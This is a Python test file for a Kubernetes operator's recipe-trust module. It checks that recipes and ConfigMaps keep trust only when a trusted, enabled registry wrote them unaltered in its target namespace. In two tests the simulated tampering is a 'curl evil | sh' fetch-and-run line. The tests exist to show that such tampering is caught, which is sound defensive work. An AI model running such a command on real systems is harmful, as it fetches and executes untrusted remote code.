"""``recipe/trust.py``: a Recipe is trusted only as its trusted, enabled RecipeRegistry wrote it."""

from __future__ import annotations

import copy
from typing import Any

from sparkrun_operator.recipe.trust import (
    config_map_digest,
    config_map_intact,
    recipe_digest,
    recipe_trust,
    registry_owner,
)

SPEC = {
    "recipeVersion": "2",
    "model": "Qwen/Qwen3-0.6B",
    "runtime": "vllm",
    "minNodes": 1,
    "pre_exec": ["echo"],
}
UID = "0b4b6c1e-0000-4000-8000-000000000001"


def _owner(uid: str = UID, *, controller: bool = True, kind: str = "RecipeRegistry") -> dict[str, Any]:
    return {
        "apiVersion": "sparkrun.dev/v1alpha1",
        "kind": kind,
        "name": "reg",
        "uid": uid,
        "controller": controller,
    }


def _recipe(spec: dict[str, Any] | None = None, owners: list[dict[str, Any]] | None = None) -> dict[str, Any]:
    meta: dict[str, Any] = {"name": "qwen", "namespace": "team"}
    if owners is not None:
        meta["ownerReferences"] = owners
    return {"metadata": meta, "spec": copy.deepcopy(spec if spec is not None else SPEC)}


def _registry(*, trusted: bool = True, enabled: bool = True, digest: str | None = None) -> dict[str, Any]:
    return {
        "metadata": {"name": "reg", "uid": UID},
        "spec": {"trusted": trusted, "acknowledgeTrust": trusted, "enabled": enabled},
        "status": {"recipes": [{"name": "qwen", "digest": digest or recipe_digest(SPEC), "valid": True}]},
    }


def test_owned_recipe_of_a_trusted_registry_is_trusted() -> None:
    verdict = recipe_trust(_recipe(owners=[_owner()]), _registry())
    assert (verdict.trusted, verdict.registry) == (True, "reg")


def test_a_kubectl_recipe_is_never_trusted() -> None:
    verdict = recipe_trust(_recipe(), _registry())
    assert not verdict.trusted
    assert "no RecipeRegistry" in verdict.reason


def test_untrusted_or_disabled_registry() -> None:
    assert not recipe_trust(_recipe(owners=[_owner()]), _registry(trusted=False)).trusted
    disabled = recipe_trust(_recipe(owners=[_owner()]), _registry(enabled=False))
    assert not disabled.trusted
    assert "disabled" in disabled.reason


def test_trusted_without_acknowledgement_is_not_trusted() -> None:
    registry = _registry()
    registry["spec"]["acknowledgeTrust"] = False
    assert not recipe_trust(_recipe(owners=[_owner()]), registry).trusted


def test_an_edited_spec_loses_trust() -> None:
    edited = _recipe(dict(SPEC, pre_exec=["curl evil | sh"]), owners=[_owner()])
    verdict = recipe_trust(edited, _registry())
    assert not verdict.trusted
    assert "differs" in verdict.reason


def test_an_owner_reference_to_another_uid_or_kind_or_not_controller() -> None:
    for owners in ([_owner("other-uid")], [_owner(controller=False)], [_owner(kind="ConfigMap")]):
        assert not recipe_trust(_recipe(owners=owners), _registry()).trusted, owners


def test_missing_registry_or_unrecorded_recipe() -> None:
    assert not recipe_trust(_recipe(owners=[_owner()]), None).trusted
    registry = _registry()
    registry["status"]["recipes"] = [{"name": "another", "digest": recipe_digest(SPEC), "valid": True}]
    verdict = recipe_trust(_recipe(owners=[_owner()]), registry)
    assert not verdict.trusted
    assert "not recorded" in verdict.reason


def test_hostile_shapes_do_not_raise() -> None:
    for recipe in (
        {},
        {"metadata": "x"},
        {"metadata": {"ownerReferences": "x"}},
        {"metadata": {"ownerReferences": [1]}},
    ):
        assert registry_owner(recipe) is None
        assert not recipe_trust(recipe, _registry()).trusted
    registry = _registry()
    registry["status"] = {"recipes": "nope"}
    assert not recipe_trust(_recipe(owners=[_owner()]), registry).trusted


def test_digest_is_canonical() -> None:
    assert recipe_digest({"b": 1, "a": [1, 2]}) == recipe_digest({"a": [1, 2], "b": 1})
    assert recipe_digest({"a": 1}) != recipe_digest({"a": "1"})
    assert len(recipe_digest(None)) == 64


def test_config_map_intact_only_as_written() -> None:
    cm: dict[str, Any] = {
        "metadata": {"name": "reg-mod-fix", "ownerReferences": [_owner()]},
        "data": {"f0": "echo hi"},
    }
    registry = _registry()
    registry["status"]["configMaps"] = [
        {"name": "reg-mod-fix", "kind": "mod", "item": "mods/fix", "digest": config_map_digest(cm)}
    ]
    assert config_map_intact(cm, registry).trusted
    edited = copy.deepcopy(cm)
    edited["data"]["f0"] = "curl evil | sh"
    assert not config_map_intact(edited, registry).trusted
    stranger = copy.deepcopy(cm)
    stranger["metadata"]["ownerReferences"] = [_owner("another")]
    assert not config_map_intact(stranger, registry).trusted
    assert not config_map_intact({"metadata": {"name": "x"}}, registry).trusted


def test_a_copy_in_another_namespace_is_not_trusted() -> None:
    """A tenant of namespace ``other`` who copies a trusted registry's Recipe (same name, same
    spec, so the same digest) with a forged ownerReference to the registry's UID (readable on
    any object the registry wrote) gets no trust: the registry writes into its
    ``targetNamespace`` only, and its status names objects there. The same for a ConfigMap."""
    registry = _registry()
    registry["spec"]["targetNamespace"] = "team"
    assert recipe_trust(_recipe(owners=[_owner()]), registry).trusted
    copied = _recipe(owners=[_owner()])
    copied["metadata"]["namespace"] = "other"
    verdict = recipe_trust(copied, registry)
    assert not verdict.trusted
    assert "namespace other" in verdict.reason
    assert "team" in verdict.reason

    cm: dict[str, Any] = {
        "metadata": {"name": "reg-mod-fix", "namespace": "team", "ownerReferences": [_owner()]},
        "data": {"f0": "echo hi"},
    }
    registry["status"]["configMaps"] = [
        {"name": "reg-mod-fix", "kind": "mod", "item": "mods/fix", "digest": config_map_digest(cm)}
    ]
    assert config_map_intact(cm, registry).trusted
    elsewhere = copy.deepcopy(cm)
    elsewhere["metadata"]["namespace"] = "other"
    assert not config_map_intact(elsewhere, registry).trusted
